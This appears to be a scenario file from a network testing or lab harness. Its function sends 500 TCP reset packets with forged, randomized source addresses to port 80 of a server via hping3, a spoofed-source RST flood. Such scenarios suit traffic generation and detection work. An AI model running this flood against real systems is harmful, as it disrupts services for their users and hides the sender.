# shellcheck shell=bash
# about: RST, forged senders (hping3)
# type: attack
# kind: rst_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -R -p 80 --rand-source
}
